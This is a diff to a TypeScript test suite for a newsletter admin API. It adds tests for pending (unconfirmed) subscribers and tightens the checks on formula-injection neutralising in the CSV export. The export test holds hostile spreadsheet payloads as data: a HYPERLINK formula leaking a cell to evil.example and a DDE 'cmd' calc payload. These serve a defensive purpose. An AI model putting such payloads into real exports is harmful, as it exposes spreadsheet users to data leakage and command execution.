@@ -23,8 +23,10 @@ afterAll(async () => {
 
 const admin = (method: 'GET' | 'PATCH' | 'DELETE', url: string, body?: unknown) => call(t.app, method, url, { cookie, body });
 
-async function subscribe(fields: Partial<NewNewsletterSubscriber> & { email: string }): Promise<AdminSubscriber> {
-  const [row] = await t.database.db.insert(newsletterSubscribers).values(fields).returning();
+/** A subscriber as stored: confirmed (and active unless told otherwise) by default, or `pending: true` (never confirmed). */
+async function subscribe({ pending, ...fields }: Partial<NewNewsletterSubscriber> & { email: string; pending?: boolean }): Promise<AdminSubscriber> {
+  const confirmed = pending ? { isActive: false, confirmedAt: null } : { isActive: true, confirmedAt: fields.subscribedAt ?? new Date() };
+  const [row] = await t.database.db.insert(newsletterSubscribers).values({ ...confirmed, ...fields }).returning();
   if (!row) throw new Error('subscriber insert failed');
   return { ...row, subscribedAt: row.subscribedAt.toISOString(), updatedAt: row.updatedAt.toISOString() } as AdminSubscriber;
 }
@@ -59,6 +61,9 @@ describe('stats, list, status and deletion', () => {
     await subscribe({ email: 'cy@refrigeration.example', name: 'Cy 100%_Cool', subscribedAt: new Date('2026-01-03T10:00:00Z'), source: 'trade-show' });
     const res = await admin('GET', '/api/admin/newsletter/stats');
     expect(res.json()).toEqual({ total: 3, active: 2, growthRate: 67 });
+    // A pending subscriber counts in the total, not as active.
+    await subscribe({ email: 'pending@waiting.example', name: 'Pending Pat', subscribedAt: new Date('2025-12-31T10:00:00Z'), pending: true });
+    expect((await admin('GET', '/api/admin/newsletter/stats')).json()).toEqual({ total: 4, active: 2, growthRate: 50 });
     expect(res.headers['cache-control']).toBe('no-store');
   });
 
@@ -69,18 +74,21 @@ describe('stats, list, status and deletion', () => {
   };
 
   it('lists newest first (or oldest first), searched on e-mail or name in any case, filtered by status, in pages', async () => {
-    expect((await list()).items.map((s) => s.email)).toEqual(['cy@refrigeration.example', 'bob@example.com', 'ada@example.com']);
-    expect((await list('sort=subscribedAt')).items.map((s) => s.email)).toEqual(['ada@example.com', 'bob@example.com', 'cy@refrigeration.example']);
+    expect((await list()).items.map((s) => s.email)).toEqual(['cy@refrigeration.example', 'bob@example.com', 'ada@example.com', 'pending@waiting.example']);
+    expect((await list('sort=subscribedAt')).items.map((s) => s.email)).toEqual(['pending@waiting.example', 'ada@example.com', 'bob@example.com', 'cy@refrigeration.example']);
     expect((await list('q=LOVELACE')).items.map((s) => s.email)).toEqual(['ada@example.com']);
     expect((await list('q=BOB@')).items.map((s) => s.email)).toEqual(['bob@example.com']);
     expect((await list('q=100%25_')).items.map((s) => s.email)).toEqual(['cy@refrigeration.example']);
     expect((await list('q=_')).total).toBe(1);
     expect((await list('status=inactive')).items.map((s) => s.email)).toEqual(['bob@example.com']);
     expect((await list('status=active&q=example.com')).total).toBe(1);
+    expect((await list('status=pending')).items.map((s) => s.email)).toEqual(['pending@waiting.example']);
     const second = await list('pageSize=2&page=2');
-    expect(second).toMatchObject({ total: 3, page: 2, pageSize: 2 });
-    expect(second.items.map((s) => s.email)).toEqual(['ada@example.com']);
-    expect(second.items[0]).toMatchObject({ name: 'Ada Lovelace', source: 'website', isActive: true, subscribedAt: '2026-01-01T10:00:00.000Z' });
+    expect(second).toMatchObject({ total: 4, page: 2, pageSize: 2 });
+    expect(second.items.map((s) => s.email)).toEqual(['ada@example.com', 'pending@waiting.example']);
+    expect(second.items[0]).toMatchObject({ name: 'Ada Lovelace', source: 'website', isActive: true, status: 'active', confirmedAt: '2026-01-01T10:00:00.000Z', subscribedAt: '2026-01-01T10:00:00.000Z' });
+    expect(second.items[1]).toMatchObject({ isActive: false, status: 'pending', confirmedAt: null });
+    expect((await list('q=bob@')).items[0]).toMatchObject({ status: 'inactive' });
   });
 
   it('refuses a status or sort it does not know, with the field', async () => {
@@ -105,6 +113,16 @@ describe('stats, list, status and deletion', () => {
     expect(entries.map((e) => e.action)).toEqual(['newsletter_subscriber.activate', 'newsletter_subscriber.deactivate']);
     expect(entries[1]).toMatchObject({ before: { email: 'dee@example.com', isActive: true }, after: { isActive: false } });
     expect(JSON.stringify(entries)).not.toContain('unsubscribe');
+  });
+
+  it('refuses to activate a pending subscriber with 409: only the address’s own confirmation subscribes it', async () => {
+    const waiting = await subscribe({ email: 'waiting@example.com', pending: true });
+    const on = await admin('PATCH', `/api/admin/newsletter/subscribers/${waiting.id}`, { isActive: true });
+    expect(on.statusCode).toBe(409);
+    expect(on.json()).toEqual({ error: { code: 'conflict', message: NEWSLETTER_ADMIN_MESSAGES.notConfirmed } });
+    expect((await list('q=waiting@')).items[0]).toMatchObject({ status: 'pending', isActive: false });
+    expect(await auditEntriesOf(t.database.db, 'newsletter_subscriber', waiting.id)).toEqual([]);
+    expect((await admin('DELETE', `/api/admin/newsletter/subscribers/${waiting.id}`)).statusCode).toBe(204);
   });
 
   it('answers 400 with the field for a missing state and 404 for an unknown subscriber', async () => {
@@ -152,38 +170,47 @@ describe('the CSV export', () => {
     expect(inactive[1]).toEqual(['bob@example.com', '', '2026-01-02 10:00:00', 'Inactive', 'website']);
     expect(readCsv((await exportCsv('?q=nobody-matches-this')).body)).toEqual([HEADER]);
     expect((await exportCsv('?status=sometimes')).statusCode).toBe(400);
+    expect(readCsv((await exportCsv('?status=pending')).body)).toEqual([HEADER, ['pending@waiting.example', 'Pending Pat', '2025-12-31 10:00:00', 'Pending', 'website']]);
   });
 
-  it('neutralises every cell a spreadsheet would run (RELIABILITY 27)', async () => {
-    const hostile = [
-      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-      '+1',
-      '-1',
-      '@SUM(A1:A9)',
-      '\t=1+1',
-      '\r=1+1',
-      '=1+1, "quoted"\r\nnext line',
+  it('neutralises every cell a spreadsheet would run, after any separator too (RELIABILITY 27 and 40)', async () => {
+    // Each hostile name, and the cell the export must hold for it.
+    const hostile: [string, string][] = [
+      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`],
+      ['+1', "'+1"],
+      ['-1', "'-1"],
+      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+      ['\t=1+1', "'\t'=1+1"],
+      ['\r=1+1', "'\r'=1+1"],
+      ['=1+1, "quoted"\r\nnext line', `'=1+1, "quoted"\r\nnext line`],
+      ['Dana;=HYPERLINK("http://evil.example")', `Dana;'=HYPERLINK("http://evil.example")`],
+      ['Cooper,+1 555 0100', "Cooper,'+1 555 0100"],
+      ['Tab\t@SUM(A1)', "Tab\t'@SUM(A1)"],
     ];
-    for (const [i, name] of hostile.entries()) {
+    for (const [i, [name]] of hostile.entries()) {
       await subscribe({ email: `formula${i}@hostile.example`, name, source: i === 0 ? '=cmd|"/c calc"!A1' : 'website' });
     }
     await subscribe({ email: '-dash@hostile.example', name: 'Plain Name' });
-    const rows = readCsv((await exportCsv('?q=hostile.example')).body);
+    const res = await exportCsv('?q=hostile.example');
+    const rows = readCsv(res.body);
     expect(rows[0]).toEqual(HEADER);
-    const cells = rows.slice(1).flat();
-    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
     const names = new Map(rows.slice(1).map((row) => [row[0], row[1]]));
-    for (const [i, name] of hostile.entries()) expect(names.get(`formula${i}@hostile.example`)).toBe(`'${name}`);
+    for (const [i, [, cell]] of hostile.entries()) expect(names.get(`formula${i}@hostile.example`)).toBe(cell);
     expect(names.get("'-dash@hostile.example")).toBe('Plain Name');
     expect(rows.slice(1).find((row) => row[0] === 'formula0@hostile.example')?.[4]).toBe(`'=cmd|"/c calc"!A1`);
+    // Every cell is quoted, so a `;` or `,` inside one never splits it for a reader of the file's own format.
+    const body = res.body.replace(/^\uFEFF/, '');
+    expect(body.startsWith('"Email","Name","Subscribed Date","Status","Source"\r\n')).toBe(true);
+    expect(body).toContain(`"formula7@hostile.example","Dana;'=HYPERLINK(""http://evil.example"")","`);
+    expect(body).toContain(`"'-dash@hostile.example","Plain Name","`);
   });
 
   describe('of many subscribers', () => {
     beforeAll(async () => {
       // 5,000 subscribers a microsecond apart: a whole batch shares one millisecond, which a cursor kept as a JS Date would get wrong.
       await t.database.db.execute(sql`
-        insert into newsletter_subscribers (email, name, source, subscribed_at)
-        select 'bulk' || g || '@many.example', 'Bulk ' || g, 'import', timestamptz '2025-06-01 00:00:00+00' + g * interval '1 microsecond'
+        insert into newsletter_subscribers (email, name, source, subscribed_at, is_active, confirmed_at)
+        select 'bulk' || g || '@many.example', 'Bulk ' || g, 'import', timestamptz '2025-06-01 00:00:00+00' + g * interval '1 microsecond', true, now()
         from generate_series(1, 5000) as g`);
     });
 
